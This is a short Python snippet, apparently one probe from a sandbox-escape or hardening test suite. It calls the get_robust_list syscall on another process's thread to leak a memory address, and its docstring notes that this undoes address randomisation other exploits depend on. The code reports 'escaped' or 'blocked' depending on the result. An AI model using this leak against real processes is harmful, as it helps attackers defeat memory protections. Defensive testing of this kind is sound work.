"""Learn an address inside another process.

origin: get_robust_list with a foreign thread's number leaks a pointer
why: it undoes the randomisation that other exploits depend on
control: depends — on the ptrace rules of the machine
"""


def attack(target):
    head, size = (ctypes.c_uint64 * 1)(), (ctypes.c_uint64 * 1)()
    result, error = syscall(target, "get_robust_list", target["victim"], head, size)
    return escaped("an address of the victim is known") if result == 0 and head[0] else blocked("get_robust_list", error or "ESRCH")
